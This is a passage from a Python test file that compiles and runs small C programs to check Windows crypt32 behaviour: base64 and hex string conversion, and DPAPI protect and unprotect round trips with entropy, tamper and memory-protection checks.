        both("headed", CRYPT_STRING_BASE64HEADER, data, 5);
        both("hex", CRYPT_STRING_HEX, data, 20);
        both("raw", CRYPT_STRING_HEXRAW | CRYPT_STRING_NOCRLF, data, 20);
        both("nocr", CRYPT_STRING_HEXRAW | CRYPT_STRING_NOCR, data, 2);
        size = 50;
        mark(CryptStringToBinaryA("AAEC AwQF\r\nBg==", 0, CRYPT_STRING_ANY, data, &size, NULL, &kind)
             && size == 7 && kind == CRYPT_STRING_BASE64 ? "any" : "wrong");
        mark(CryptStringToBinaryA("not base64!", 0, CRYPT_STRING_BASE64, NULL, &size, NULL, NULL)
             || GetLastError() != ERROR_INVALID_DATA ? "wrong" : "invalid");
        mark(CryptStringToBinaryA("AAECAwQFxyz", 8, CRYPT_STRING_BASE64, NULL, &size, NULL, NULL) && size == 6
             ? "counted" : "wrong");
        return 0;
    }
    """
    )
    text = base64.b64encode(bytes(number * 5 for number in range(50))).decode()
    assert said(tmp_path, source, bits, "-lcrypt32") == [
        f"base64-{text[:64]}_r_n{text[64:]}_r_n",
        "plain-AAUKDxQZHiMoLQ==",
        "headed------BEGIN CERTIFICATE-----_r_nAAUKDxQ=_r_n-----END CERTIFICATE-----_r_n",
        "hex-00 05 0a 0f 14 19 1e 23  28 2d 32 37 3c 41 46 4b_r_n50 55 5a 5f_r_n",
        "raw-00050a0f14191e23282d32373c41464b50555a5f",
        "nocr-0005_n",
        *("any", "invalid", "counted"),
    ]


@BITS
def test_protected_data(tmp_path: Path, bits: int) -> None:
    """DPAPI: the user reads what was protected, with the entropy and unchanged only."""
    source = r"""
    #include <string.h>
    #include <wincrypt.h>
    int main(void)
    {
        DATA_BLOB in = {7, (BYTE *)"secret"}, entropy = {4, (BYTE *)"salt"}, made, back;
        WCHAR *described;
        BYTE block[16] = "0123456789abcde";
        mark(CryptProtectData(&in, L"mine", &entropy, NULL, NULL, CRYPTPROTECT_UI_FORBIDDEN, &made)
             && made.cbData > 100 && !memcmp(made.pbData + 4, "\xd0\x8c\x9d\xdf", 4) ? "protected" : "wrong");
        mark(CryptUnprotectData(&made, &described, &entropy, NULL, NULL, 0, &back) && back.cbData == 7
             && !memcmp(back.pbData, "secret", 7) && !wcscmp(described, L"mine") ? "read" : "wrong");
        mark(LocalFree(back.pbData) || LocalFree(described) ? "wrong" : "freed");
        mark(CryptUnprotectData(&made, NULL, NULL, NULL, NULL, 0, &back)
             || GetLastError() != ERROR_INVALID_DATA ? "wrong" : "no-entropy");
        made.pbData[made.cbData / 2] ^= 1;
        mark(CryptUnprotectData(&made, NULL, &entropy, NULL, NULL, 0, &back) ? "wrong" : "changed");
        mark(CryptUnprotectData(&in, NULL, &entropy, NULL, NULL, 0, &back) ? "wrong" : "no-blob");
        CryptProtectMemory(block, 16, CRYPTPROTECTMEMORY_SAME_PROCESS);
        mark(memcmp(block, "0123456789abcde", 16) ? "memory" : "wrong");
        CryptUnprotectMemory(block, 16, CRYPTPROTECTMEMORY_SAME_PROCESS);
        mark(memcmp(block, "0123456789abcde", 16) ? "wrong" : "back");
        return 0;
    }
    """
    assert said(tmp_path, source, bits, "-lcrypt32") == [
        *("protected", "read", "freed", "no-entropy", "changed", "no-blob", "memory", "back"),
    ]
